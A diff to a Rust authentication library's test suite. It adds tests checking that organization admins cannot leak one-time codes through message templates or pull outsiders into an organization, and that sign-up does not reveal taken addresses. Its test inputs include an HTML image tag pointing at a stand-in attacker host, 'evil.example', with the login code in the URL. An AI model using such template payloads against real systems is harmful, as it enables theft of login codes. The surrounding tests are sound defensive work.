@@ -35,6 +35,8 @@ on_both_adapters!(
     verify_live_refuses_permissions_taken_away_since_the_token_was_signed,
     one_client_cannot_shut_a_number_out_for_its_owner,
     the_owners_device_is_served_when_many_clients_spent_a_number,
+    an_org_admin_can_neither_word_a_code_away_nor_pull_an_outsider_in,
+    a_sign_up_answers_a_taken_address_as_a_free_one,
 );
 
 /// The attacks of `support::scenarios` (authorization-code replay, OA-01; the passkey
@@ -623,4 +625,112 @@ mod bot_check {
         let h = support::sled_harness_built(config, |b| b.bot_check(PersonCheck));
         super::texts_past_the_soft_global_level_need_a_bot_check(h).await;
     }
+}
+
+/// Checklist ADM-07, ML-05 and DESIGN invariant 16 (issue 16, item 1), in the engine: an
+/// organization's wording cannot place the code, whatever its spacing, and the settings
+/// that held free-form HTML are refused; its administrators cannot make an outsider a
+/// member, and an invitation joins only the person who proved the invited address.
+async fn an_org_admin_can_neither_word_a_code_away_nor_pull_an_outsider_in<S>(h: Harness<S>) {
+    let evil = h
+        .auth
+        .orgs()
+        .create(latchkey::NewOrg::new("Evil", "evil"))
+        .await
+        .unwrap()
+        .id;
+    for text in ["{{ code }}", "{{link}}", "<img src=https://evil.example/p>"] {
+        let mut wording =
+            latchkey::directory::MessageWording::new(latchkey::MessageKind::EmailCode, None);
+        wording.intro = Some(format!("Your code: {text}"));
+        let mut settings = latchkey::OrgSettings::default();
+        settings.templates = vec![wording];
+        let mut update = latchkey::OrgUpdate::default();
+        update.settings = Some(settings);
+        let refused = h.auth.orgs().update(evil, &update).await;
+        assert!(
+            matches!(refused, Err(Error::InvalidInput { .. })),
+            "{text}: {refused:?}"
+        );
+    }
+    let html = serde_json::json!({"templates": [{"kind": "email_code", "subject": "s",
+        "text": "{{code}}", "html": "<img src=\"https://evil.example/?c={{ code }}\">"}]});
+    assert!(serde_json::from_value::<latchkey::OrgSettings>(html).is_err());
+
+    let SignIn::Complete(victim) = owner_proves(&h, "victim@example.com").await else {
+        panic!("signed in")
+    };
+    let rbac = h.auth.rbac();
+    let pulled = rbac.set_roles(victim.user_id, evil, &[], &ctx()).await;
+    assert!(
+        matches!(pulled, Err(Error::NotFound { what: "membership" })),
+        "{pulled:?}"
+    );
+    let invitation = rbac
+        .invite(evil, "victim@example.com", &[], &ctx())
+        .await
+        .unwrap();
+    let SignIn::Complete(mallory) = owner_proves(&h, "mallory@example.com").await else {
+        panic!("signed in")
+    };
+    let stolen = rbac
+        .accept_invitation(mallory.user_id, &invitation.token, &ctx())
+        .await;
+    assert!(matches!(stolen, Err(Error::Forbidden)), "{stolen:?}");
+    assert!(
+        rbac.memberships(victim.user_id)
+            .await
+            .unwrap()
+            .iter()
+            .all(|m| m.org_id != evil)
+    );
+    rbac.accept_invitation(victim.user_id, &invitation.token, &ctx())
+        .await
+        .unwrap();
+    let again = rbac
+        .accept_invitation(victim.user_id, &invitation.token, &ctx())
+        .await;
+    assert!(matches!(again, Err(Error::InvalidToken)), "{again:?}");
+}
+
+/// Checklist ENUM-03 (issue 16, item 4), in the engine: a password sign-up for a taken
+/// address answers as one for a free address, its owner is told, and no code makes an
+/// account of it.
+async fn a_sign_up_answers_a_taken_address_as_a_free_one<S>(h: Harness<S>) {
+    owner_proves(&h, "ana@example.com").await;
+    h.clock.advance(std::time::Duration::from_secs(61));
+    let password = Password::new(ATTACKERS_PASSWORD);
+    let taken = h
+        .auth
+        .passwords()
+        .sign_up("ana@example.com", &password, &client(1))
+        .await;
+    let free = h
+        .auth
+        .passwords()
+        .sign_up("bo@example.com", &password, &client(2))
+        .await;
+    let (taken, free) = (taken.unwrap(), free.unwrap());
+    assert_eq!(taken.expires_in, free.expires_in);
+    let mails = h.mails().await;
+    let to = |who: &str| mails.iter().rev().find(|m| m.to.as_str() == who).unwrap();
+    assert_eq!(
+        to("ana@example.com").message.kind,
+        latchkey::MessageKind::SignUpAttempt
+    );
+    assert!(to("ana@example.com").message.code.is_none());
+    assert_eq!(
+        to("bo@example.com").message.kind,
+        latchkey::MessageKind::EmailCode
+    );
+    let guess = latchkey::crypto::OneTimeCode::new("123456");
+    let refused = h
+        .auth
+        .sign_ups()
+        .confirm(taken.request_id, &guess, &client(1))
+        .await;
+    assert!(
+        matches!(refused, Err(Error::InvalidCredentials)),
+        "{refused:?}"
+    );
 }
